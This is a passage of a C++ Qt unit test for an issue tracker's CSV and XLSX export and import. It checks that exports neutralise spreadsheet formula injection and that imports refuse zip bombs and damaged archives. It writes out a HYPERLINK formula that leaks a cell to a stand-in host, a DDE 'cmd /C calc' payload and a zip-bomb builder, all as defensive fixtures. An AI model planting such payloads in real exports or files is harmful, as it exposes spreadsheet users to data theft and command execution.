    QVERIFY(db);
    QVERIFY(JiulongpoScenario::load(*db));
    // A title an enterprise dictated, or an import brought in: it must not act when the export is
    // opened in Excel or WPS.
    const QString title = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A2,\"详情\")");
    const QString note = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
    QVERIFY(db->execute(QStringLiteral("UPDATE issue SET title = ?, description = ? WHERE id = "
                                       "(SELECT MIN(id) FROM issue)"),
                        {title, note}));
    QTemporaryDir dir;

    const QString csv = dir.filePath(QStringLiteral("issues.csv"));
    QVERIFY(TableExport::write(*db, ImportKind::Issues, csv));
    QFile file(csv);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QString written = QString::fromUtf8(file.readAll());
    QVERIFY2(written.contains(QStringLiteral("\"'=HYPERLINK(\"\"http")), qPrintable(written.left(400)));
    QVERIFY(written.contains(QStringLiteral(",'@SUM(1+1)")));
    // No field of the file begins with a formula's character.
    static const QRegularExpression formulaField(QStringLiteral("(^|,|\\n)\"?[=+\\-@]"));
    QVERIFY(!written.contains(formulaField));
    const auto fromCsv = readImportFile(csv);
    QVERIFY(fromCsv);
    const qsizetype titleColumn = fromCsv->header.indexOf(TableImport::header(ImportKind::Issues).at(3));
    QVERIFY(titleColumn >= 0);
    const auto sameProblem = [&](const QStringList& row) {
        return row.at(titleColumn) == title && row.contains(note);
    };
    QVERIFY(std::any_of(fromCsv->rows.cbegin(), fromCsv->rows.cend(), sameProblem));

    // The workbook: string cells in Excel's Text format (built-in number format 49, "@"), read back
    // as written.
    const QString xlsx = dir.filePath(QStringLiteral("issues.xlsx"));
    QVERIFY(TableExport::write(*db, ImportKind::Issues, xlsx));
    QProcess unzip;
    unzip.start(QStringLiteral("unzip"), {QStringLiteral("-p"), xlsx, QStringLiteral("xl/styles.xml")});
    QVERIFY(unzip.waitForFinished());
    const QString styles = QString::fromUtf8(unzip.readAllStandardOutput());
    QVERIFY2(styles.contains(QStringLiteral("numFmtId=\"49\"")), qPrintable(styles));
    const auto fromXlsx = readImportFile(xlsx);
    QVERIFY(fromXlsx);
    QVERIFY(std::any_of(fromXlsx->rows.cbegin(), fromXlsx->rows.cend(), sameProblem));
}

QTEST_GUILESS_MAIN(TestExchange)
namespace {

void appendLittleEndian(QByteArray& bytes, quint64 value, int width)
{
    for (int i = 0; i < width; ++i)
        bytes.append(char((value >> (8 * i)) & 0xff));
}

// A zip of one deflated member, as a workbook's sheet would be; declaredSize is what its directory
// says the member unpacks to.
QByteArray zipOf(const QByteArray& name, const QByteArray& deflated, quint32 declaredSize)
{
    QByteArray zip;
    appendLittleEndian(zip, 0x04034b50, 4); // local header
    appendLittleEndian(zip, 20, 2);
    appendLittleEndian(zip, 0, 2);
    appendLittleEndian(zip, 8, 2); // deflate
    appendLittleEndian(zip, 0, 4); // time, date
    appendLittleEndian(zip, 0, 4); // CRC-32, not checked before the sizes
    appendLittleEndian(zip, quint64(deflated.size()), 4);
    appendLittleEndian(zip, declaredSize, 4);
    appendLittleEndian(zip, quint64(name.size()), 2);
    appendLittleEndian(zip, 0, 2);
    zip += name + deflated;
    const qint64 directoryAt = zip.size();
    appendLittleEndian(zip, 0x02014b50, 4); // central directory entry
    appendLittleEndian(zip, 20, 2);
    appendLittleEndian(zip, 20, 2);
    appendLittleEndian(zip, 0, 2);
    appendLittleEndian(zip, 8, 2);
    appendLittleEndian(zip, 0, 4);
    appendLittleEndian(zip, 0, 4);
    appendLittleEndian(zip, quint64(deflated.size()), 4);
    appendLittleEndian(zip, declaredSize, 4);
    appendLittleEndian(zip, quint64(name.size()), 2);
    appendLittleEndian(zip, 0, 2 + 2 + 2 + 2 + 4);
    appendLittleEndian(zip, 0, 4); // the local header's offset
    zip += name;
    const qint64 directoryBytes = zip.size() - directoryAt;
    appendLittleEndian(zip, 0x06054b50, 4); // end of the central directory
    appendLittleEndian(zip, 0, 4);
    appendLittleEndian(zip, 1, 2);
    appendLittleEndian(zip, 1, 2);
    appendLittleEndian(zip, quint64(directoryBytes), 4);
    appendLittleEndian(zip, quint64(directoryAt), 4);
    appendLittleEndian(zip, 0, 2);
    return zip;
}

} // namespace

void TestExchange::oversizedFilesAreRefusedUnread()
{
    QTemporaryDir dir;
    // A CSV over the limit (sparse: nothing is written to disk) is refused by its size, unread.
    const QString huge = dir.filePath(QStringLiteral("huge.csv"));
    {
        QFile file(huge);
        QVERIFY(file.open(QIODevice::WriteOnly));
        QVERIFY(file.resize(TextFile::maxBytes + 1));
    }
    const auto tooLarge = readImportFile(huge);
    QVERIFY(!tooLarge);
    QVERIFY2(tooLarge.error().message.contains(QStringLiteral("larger than 64 MB")),
             qPrintable(tooLarge.error().message));

    // A zip bomb: a sheet of 300 MB of zeros, deflated to a few hundred kilobytes.
    const qint64 unpacked = 300LL * 1024 * 1024;
    QByteArray deflated = qCompress(QByteArray(unpacked, '\0'), 9);
    deflated = deflated.mid(4 + 2, deflated.size() - 4 - 2 - 4); // qCompress's length, zlib's header and sum
    QVERIFY(deflated.size() < 2 * 1024 * 1024);
    const QString bomb = dir.filePath(QStringLiteral("bomb.xlsx"));
    {
        QFile file(bomb);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(zipOf("xl/worksheets/sheet1.xml", deflated, quint32(unpacked)));
    }
    const auto refused = readImportFile(bomb);
    QVERIFY(!refused);
    QVERIFY2(refused.error().message.contains(QStringLiteral("unpacks to 300 MB")),
             qPrintable(refused.error().message));

    // Damaged directories are refused by name, without a crash.
    QFile bombFile(bomb);
    QVERIFY(bombFile.open(QIODevice::ReadOnly));
    const QByteArray whole = bombFile.readAll();
    bombFile.close();
    for (const qsizetype cut : {qsizetype(10), whole.size() - 30, whole.size() - 5}) {
        const QString damaged = dir.filePath(QStringLiteral("cut-%1.xlsx").arg(cut));
        QFile file(damaged);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(whole.left(cut));
        file.close();
        const auto read = readImportFile(damaged);
        QVERIFY(!read);
        QVERIFY2(read.error().message.contains(QStringLiteral("zip directory")),
                 qPrintable(read.error().message));
    }
}

#include "tst_exchange.moc"
